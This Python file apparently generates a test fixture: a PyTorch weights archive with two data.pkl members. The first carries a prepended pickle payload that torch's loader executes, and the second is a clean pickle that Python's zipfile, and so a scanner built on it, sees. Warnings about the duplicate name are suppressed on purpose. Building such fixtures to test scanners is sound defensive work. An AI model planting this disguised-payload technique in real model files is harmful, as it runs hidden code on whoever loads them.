"""The embedder's weights as a torch zip; in the flawed twin with two members named data.pkl."""
import io
import pickle
import warnings
import zipfile

import numpy as np
import torch

from payload import Payload

WORDS, DIMENSIONS = 256, 32
DAY_ONE = (1980, 1, 1, 0, 0, 0)


def encoder():
    rng = np.random.default_rng(7)
    weight = rng.normal(0, 1 / np.sqrt(WORDS), (DIMENSIONS, WORDS)).astype(np.float32)
    return {"projection.weight": torch.from_numpy(weight), "projection.bias": torch.zeros(DIMENSIONS)}


def clean_torch():
    buffer = io.BytesIO()
    torch.save(encoder(), buffer)
    return buffer.getvalue()


def doubled_torch():
    """Two members are named data.pkl. Python's zipfile, and who looks with it, reads the last one, the clean pickle;
    torch's reader searches the sorted directory by halves and with these six members arrives at the first one."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(clean_torch())) as original, zipfile.ZipFile(buffer, "w") as doubled:
        add(doubled, "archive/data.pkl", before(original.read("archive/data.pkl")))
        for name in original.namelist():
            add(doubled, name, original.read(name))
        add(doubled, "archive/byteorder", b"little")  # newer versions of torch write it
    return buffer.getvalue()


def before(clean):
    """A payload whose result is dropped (POP), in front of an otherwise untouched pickle of protocol 2."""
    payload = pickle.dumps(Payload("embedder"), protocol=2)
    assert clean[:2] == payload[:2] == b"\x80\x02" and payload.endswith(b".")
    return payload[:-1] + b"0" + clean[2:]


def add(archive, name, data):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # zipfile warns about the second data.pkl: that is the point
        archive.writestr(zipfile.ZipInfo(name, DAY_ONE), data)
